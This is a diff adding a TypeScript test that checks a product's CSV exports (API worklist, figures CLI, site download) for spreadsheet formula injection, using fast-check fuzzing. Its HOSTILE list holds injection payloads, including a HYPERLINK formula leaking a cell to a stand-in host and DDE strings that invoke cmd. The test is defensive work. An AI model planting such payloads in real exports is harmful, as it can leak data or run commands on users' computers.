@@ -1,0 +1,149 @@
+/**
+ * CSV neutralisation: every CSV the product writes (the figures CLI, the site's download
+ * of reports/components/excelCsv.js, the API's worklist) must not let a spreadsheet run a
+ * text cell as a formula (=, +, -, @ first, or a tab or carriage return). Hostile values
+ * come in through the exports (a sector label, lease numbers) and through the writers'
+ * inputs directly; fast-check tries arbitrary strings on both CSV modules.
+ */
+import fs from "node:fs";
+import path from "node:path";
+import { pathToFileURL } from "node:url";
+import fc from "fast-check";
+import { createApp } from "../api/app.ts";
+import { SessionStore, SignInThrottle } from "../api/sessions.ts";
+import { ROLES, UserStore, hashPassword } from "../api/users.ts";
+import { excelCsv, textCell } from "../csv/excelCsv.ts";
+import { runEtl } from "../etl/runEtl.ts";
+import { renderCsv } from "../figures/render.ts";
+import { projectPath } from "../paths.ts";
+import { WarehouseProvider } from "../server/warehouseProvider.ts";
+import { getFigures } from "../warehouse/figures.ts";
+import { HEADERS, defaultLeaseId, tempDir, writeExport, writeOffice } from "./office.ts";
+import { runChild } from "./process.ts";
+import { line, type CheckLine } from "./table.ts";
+
+const FAMILY = "CSV";
+
+export const HOSTILE = [
+  `=HYPERLINK("http://exemple.invalid/?d="&A1;"Cliquez")`,
+  `+33 6 12 34 56 78`,
+  `-2+3+cmd|' /C calc'!A0`,
+  `@SUM(1+1)*cmd|' /C calc'!A0`,
+  `=1+1`,
+  `\t=2+2`,
+];
+const FORMULA_START = /^[=+\-@\t\r]/;
+const NUMBER = /^-?\d[\d\u00a0\u202f ]*(,\d+)?$/;
+
+/** French Excel CSV (BOM, ;, "", CRLF) to rows of cells. */
+export function parseCsv(text: string): string[][] {
+  const t = text.replace(/^\uFEFF/, "");
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = "";
+  let quoted = false;
+  for (let i = 0; i < t.length; i++) {
+    const c = t[i]!;
+    if (quoted) {
+      if (c === '"' && t[i + 1] === '"') (field += '"'), i++;
+      else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ";") row.push(field), (field = "");
+    else if (c === "\r" && t[i + 1] === "\n") {
+      row.push(field), rows.push(row), (row = []), (field = ""), i++;
+    } else field += c;
+  }
+  if (field || row.length) row.push(field), rows.push(row);
+  return rows;
+}
+
+/** Cells a spreadsheet would run as a formula (numbers excepted). */
+export const formulaCells = (csv: string) =>
+  parseCsv(csv).flat().filter((c) => FORMULA_START.test(c) && !NUMBER.test(c));
+
+interface SiteCsv {
+  excelCsv: (rows: unknown[][]) => string;
+  textCell: (v: string) => unknown;
+  figuresCsv: (records: unknown[], definitions: unknown[]) => string;
+}
+
+export async function checkCsvWriters(log: (l: string) => void = () => undefined): Promise<CheckLine[]> {
+  const dir = tempDir("oph-csv-");
+  const exportsDir = path.join(dir, "exports");
+  const hostileLease = (i: number) => (i <= HOSTILE.length ? HOSTILE[i - 1]! : defaultLeaseId(i));
+  writeOffice(exportsDir, { labelN: HOSTILE[0], leaseId: hostileLease });
+  // Leases 2..6 owe a large bill too, so every hostile lease number is in the review worklist.
+  writeExport(exportsDir, "ecritures_20241215.csv", HEADERS.ecritures, HOSTILE.slice(1).map((id, k) => [`H${k}`, id, "01/12/2024", "12/2024", "QL", "Loyer", "2 000,00", "", ""]));
+  const db = path.join(dir, "w.duckdb");
+  await runEtl({ exportsDir, dbPath: db, log: () => undefined });
+  const out: CheckLine[] = [];
+
+  // 1. The API's worklist CSV.
+  const warehouse = new WarehouseProvider(db);
+  const app = createApp({
+    warehouse,
+    runs: { start: async () => ({ depuis: "" }), status: () => ({ en_cours: null, derniers: [] }) },
+    users: new UserStore([{ identifiant: "r", role: "recouvrement", mot_de_passe_hache: hashPassword("x") }]),
+    sessions: new SessionStore(),
+    throttle: new SignInThrottle(),
+    log: () => undefined,
+  });
+  void ROLES;
+  const signin = await app.request("/api/session", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ identifiant: "r", mot_de_passe: "x" }) });
+  const cookie = signin.headers.get("set-cookie")!.split(";")[0]!;
+  const apiCsv = await (await app.request("/api/cases?format=csv&taille=500", { headers: { Cookie: cookie } })).text();
+  const apiCells = parseCsv(apiCsv).flat();
+  const apiOutcomes = HOSTILE.map((h) => {
+    if (formulaCells(apiCsv).length) return `cellule(s) exécutable(s) : ${formulaCells(apiCsv).slice(0, 3).join(" | ")}`;
+    const id = h.trim();
+    return apiCells.includes(`'${id}`) || apiCells.includes(`'${h}`) ? null : `« ${h} » absent de la liste ou non neutralisé`;
+  });
+  apiOutcomes.push(apiCells.includes(`'${HOSTILE[0]}`) ? null : "libellé de secteur hostile absent ou non neutralisé");
+  out.push(line(FAMILY, "API /api/cases?format=csv : numéros de bail et libellé de secteur hostiles venus des exports neutralisés", apiOutcomes));
+
+  // 2. The figures CLI (a process, as a person runs it), and its writer with hostile inputs.
+  const cli = await runChild(["src/cli/figures.ts", "--db", db, "--annee", "2024", "--format", "csv", "--par-secteur"]);
+  const cliBad = formulaCells(cli.stdout);
+  const records = [await warehouse.use((wh) => getFigures(wh, { annee: 2024 }))];
+  const hostileRecords = HOSTILE.map((h) => ({ ...records[0]!, secteur: h }));
+  const rendered = renderCsv(hostileRecords);
+  out.push(
+    line(FAMILY, "CLI figures --format csv (processus) et son rendu avec des secteurs hostiles", [
+      cli.code === 0 ? (cliBad.length ? `cellules exécutables : ${cliBad.join(" | ")}` : null) : `figures a échoué : ${cli.stderr}`,
+      ...HOSTILE.map((h) => (formulaCells(rendered).length ? `« ${h} » exécutable` : null)),
+    ]),
+  );
+  warehouse.close();
+
+  // 3. The site's download (reports/components/excelCsv.js), with hostile definitions and scopes.
+  const site = (await import(pathToFileURL(projectPath("reports", "components", "excelCsv.js")).href)) as SiteCsv;
+  const definitions = HOSTILE.map((h, k) => ({ cle: `cle${k}`, groupe: "figures", libelle: h, libelle_court: h, unite: h, definition: h }));
+  const siteCsv = site.figuresCsv(hostileRecords, definitions);
+  const siteRows = site.excelCsv(HOSTILE.map((h) => [site.textCell(h)]));
+  out.push(
+    line(FAMILY, "site : téléchargement CSV des chiffres clés (reports/components/excelCsv.js) avec libellés et secteurs hostiles", HOSTILE.map((h) =>
+      formulaCells(siteCsv).length || formulaCells(siteRows).length ? `« ${h} » exécutable : ${[...formulaCells(siteCsv), ...formulaCells(siteRows)].slice(0, 2).join(" | ")}` : null,
+    )),
+  );
+
+  // 4. Property: any text cell, from any string, is never a formula, in both modules, and reads back intact after the apostrophe.
+  const outcomes: Array<string | null> = [];
+  const prefix = fc.constantFrom("=", "+", "-", "@", "\t", "\r", "", " ", "'", '"', ";");
+  fc.assert(
+    fc.property(prefix, fc.string({ maxLength: 40 }), (p, s) => {
+      const v = p + s;
+      for (const [name, csv] of [["src/csv/excelCsv.ts", excelCsv([[textCell(v)]])], ["reports/components/excelCsv.js", site.excelCsv([[site.textCell(v)]])]] as const) {
+        const cells = parseCsv(csv).flat();
+        const bad = cells.some((c) => FORMULA_START.test(c));
+        const back = cells.length === 1 && (cells[0] === v || cells[0] === `'${v}`);
+        outcomes.push(bad || !back ? `${name} : ${JSON.stringify(v)} → ${JSON.stringify(cells)}` : null);
+      }
+    }),
+    { numRuns: 500, seed: 20250101 },
+  );
+  out.push(line(FAMILY, "propriété (fast-check) : toute cellule texte, de toute chaîne, jamais exécutable, relue intacte", outcomes));
+  log(`[csv] ${out.map((l) => `${l.tenus}/${l.fois}`).join(", ")}`);
+  fs.rmSync(dir, { recursive: true, force: true });
+  return out;
+}
